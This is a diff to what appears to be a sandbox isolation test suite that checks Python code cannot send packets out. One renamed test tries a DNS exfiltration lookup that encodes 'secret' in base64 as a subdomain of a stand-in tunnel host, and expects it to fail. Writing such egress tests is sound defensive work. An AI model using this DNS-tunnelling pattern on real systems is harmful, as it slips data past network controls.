@@ -84,7 +84,7 @@ describe('no packet leaves', () => {
     await expectNothingLeft()
   })
 
-  test('as a question for a name that says what is to be told', async () => {
+  test('as a DNS query whose name contains the data', async () => {
     const said = await python(attempt("print(socket.getaddrinfo('c2VjcmV0.tunnel.example.com', 443))"))
     expect(said).toContain('gaierror')
     await expectNothingLeft()
@@ -135,7 +135,7 @@ for file in ('/proc/net/tcp', '/proc/net/tcp6'):
     fields = line.split()
     if fields[3] == '0A': found.add(int(fields[1].rsplit(':', 1)[1], 16))
 print(sorted(found))`
-    for (let look = 0; look < 5; look += 1) {
+    for (let attempt = 0; attempt < 5; attempt += 1) {
       expect(JSON.parse(await python(listening))).toEqual([15_001, 15_021, 15_053, 15_080, 15_443])
       expect(await python(connect('AF_INET', '127.0.0.1', 9_229))).toContain('ConnectionRefused')
     }
